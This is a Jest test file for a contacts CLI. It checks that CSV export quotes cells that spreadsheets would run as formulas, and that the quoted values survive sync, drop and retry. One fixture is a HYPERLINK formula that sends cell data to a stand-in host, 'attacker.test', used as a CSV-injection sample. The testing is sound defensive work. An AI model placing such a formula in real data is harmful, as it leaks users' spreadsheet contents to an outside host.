import { cp, readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { loadContacts } from '../../../src/sandbox/load-contacts.js';
import { CUSTOM_FIELDS } from '../../../src/sandbox/defaults.js';
import { bodies, csv, id, person, readCsv, statuses, withFront, world, type World } from '../../support/world.js';

const LINK = '=HYPERLINK("http://attacker.test/?"&A1,"open")';
const CONTACTS = [
  person(1, { title: LINK, notes: '- met at the fair\n- wants a demo', phone_number: '+4930123456' }),
  person(2, { title: '@SUM(A1)', notes: "'=quoted already", location: '+Berlin', [CUSTOM_FIELDS.erpNumber]: '-007a' }),
  person(3, { title: 'VP', notes: "'tis", tags: ['@vip', '=hot', 'VIP'] }),
];
/** Cells above that begin like formulas: a value that is quoted already is none. */
const FORMULAS = 6;

async function exported({ cli, dir }: World, ...flags: string[]): Promise<{ rows: string[][]; stderr: string }> {
  const run = await cli('export', '--out', 'all.csv', '--force', ...flags);
  expect(run.code).toBe(0);
  return { rows: readCsv(await readFile(path.join(dir, 'all.csv'), 'utf8')), stderr: run.stderr };
}

const beginsLikeFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d\s().-]+$/.test(cell);

describe('export', () => {
  test(
    'quotes cells that a spreadsheet would run, and sync takes them back without a change',
    world({ contacts: CONTACTS }, async (here) => {
      const { rows, stderr } = await exported(here);
      expect(stderr).toContain(`${FORMULAS} values that a spreadsheet would take for formulas quoted with '`);
      expect(rows.flat().filter(beginsLikeFormula)).toEqual([]);
      expect(rows.flat()).toEqual(expect.arrayContaining([`'${LINK}`, "''=quoted already", '+4930123456', "'tis"]));
      await cp(path.join(here.dir, 'all.csv'), path.join(here.dir, 'base.csv'));
      for (const flags of [[], ['--base', 'base.csv'], ['--snapshot', 'all.csv'], ['--lint', 'off']]) {
        const run = await here.cli('sync', 'all.csv', ...flags);
        expect([flags, run.code, statuses(run)]).toEqual([flags, 0, ['unchanged', 'unchanged', 'unchanged']]);
      }
      expect(here.sandbox.log.counts.patch).toBe(0);
      const loaded = await loadContacts(path.join(here.dir, 'all.csv'));
      expect(loaded.map(({ title, notes }) => [title, notes])).toEqual(
        CONTACTS.map(({ title, notes }) => [title, notes]),
      );
    }),
  );

  test(
    'has edited cells sent without the quote, also where columns were taken away',
    world({ contacts: CONTACTS }, async (here) => {
      await here.write(
        'edits.csv',
        csv(
          ['contact_id', 'notes', 'title'],
          [
            [id(1), "'- met twice", `'${LINK}`],
            [id(3), "'@home", 'VP'],
          ],
        ),
      );
      expect((await here.cli('sync', 'edits.csv')).code).toBe(0);
      expect(bodies(here.sandbox).map(({ body }) => body)).toEqual([{ notes: '- met twice' }, { notes: '@home' }]);
    }),
  );

  test(
    'warns with a count where they are kept, and says nothing of phone numbers',
    world({ contacts: CONTACTS }, async (here) => {
      const { rows, stderr } = await exported(here, '--formulas', 'keep');
      expect(stderr).toContain(`warning: ${FORMULAS} values that a spreadsheet would take for formulas`);
      expect(rows.flat().filter(beginsLikeFormula)).toHaveLength(FORMULAS);
      expect(statuses(await here.cli('sync', 'all.csv'))).toEqual(['unchanged', 'unchanged', 'unchanged']);
      const honest = await here.cli('export', '--formulas', 'keep', '--filter', 'title equals VP');
      expect(honest.stderr).not.toContain('phone');
    }),
  );

  test(
    'leaves them out with drop, and no sync clears them then',
    world({ contacts: CONTACTS }, async (here) => {
      const { rows, stderr } = await exported(here, '--formulas', 'drop');
      expect(stderr).toContain(`${FORMULAS} values that a spreadsheet would take for formulas left out`);
      const [head = [], first = []] = rows;
      expect(first[head.indexOf('title')]).toBe('');
      expect(first[head.indexOf('_left_out')]).toBe('title notes');
      const before = CONTACTS.map((contact) => ({ ...here.sandbox.store.find(contact.id) }));
      for (const flags of [[], ['--empty', 'clear']]) await here.cli('sync', 'all.csv', ...flags, '--allow-opt-in');
      CONTACTS.forEach((contact, at) => {
        const { title, notes, location, tags } = here.sandbox.store.find(contact.id)!;
        expect({ title, notes, location, tags }).toMatchObject({
          title: before[at]!.title,
          notes: before[at]!.notes,
          location: before[at]!.location,
          tags: before[at]!.tags,
        });
      });
    }),
  );
});

test(
  'a custom field that is called like a formula is quoted in the header, and found again',
  world({ contacts: CONTACTS.slice(0, 1) }, async (here) => {
    const { url, key } = here.sandbox;
    const answer = await fetch(`${url}/v1/schemas/contacts`, { headers: { authorization: `Bearer ${key}` } });
    const body = (await answer.text()).replace('"ERP Number"', '"=1+1"');
    await withFront(
      here,
      ({ path: at }) => (at.includes('schema') ? { status: 200, body } : undefined),
      async () => {
        const { rows } = await exported(here);
        expect(rows[0]).toContain("'=1+1");
        expect(statuses(await here.cli('sync', 'all.csv'))).toEqual(['unchanged']);
      },
    );
  }),
);

test(
  'rejected.csv is quoted as well, header and reasons too, and can be fed back as it is',
  world({ contacts: [person(1)] }, async (here) => {
    const table = [
      ['contact_id', 'title', 'notes', 'tags'],
      [id(7), LINK, "'=as it was", '+VIP;-Prospect'],
    ] as const;
    await here.write('edits.csv', csv(table[0], [table[1]]));
    const first = await here.cli('sync', 'edits.csv');
    expect(first.code).toBe(3);
    expect(first.rejected[1]!.slice(0, 4)).toEqual([id(7), `'${LINK}`, "'=as it was", "'+VIP;-Prospect"]);
    await here.write('rejected.csv', first.rejectedText);
    const fedBack = await here.cli('sync', 'rejected.csv');
    expect(fedBack.rejected).toEqual(first.rejected);
    here.sandbox.store.contacts.set(id(7), person(7));
    const retried = await here.cli('retry', 'latest');
    expect(retried.code).toBe(0);
    expect(here.sandbox.store.find(id(7))).toMatchObject({ title: LINK, notes: '=as it was', tags: ['VIP'] });
  }),
);
